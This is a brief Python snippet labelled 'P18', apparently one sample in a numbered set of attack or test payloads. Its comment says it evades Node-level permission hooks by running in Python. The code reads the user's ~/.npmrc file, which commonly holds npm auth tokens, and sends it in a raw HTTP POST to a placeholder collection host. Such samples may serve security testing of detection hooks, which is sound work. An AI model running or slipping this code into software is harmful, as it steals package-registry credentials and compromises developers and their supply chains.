# P18: the payload runs in Python, not Node, so Node-level hooks (require hooks, --permission) miss it.
import os, socket
data = open(os.path.expanduser("~/.npmrc"), "rb").read()
s = socket.create_connection(("py.collect.invalid", 80), timeout=3)
s.sendall(b"POST /n HTTP/1.0\r\nHost: py.collect.invalid\r\nContent-Length: %d\r\n\r\n" % len(data) + data)
s.close()
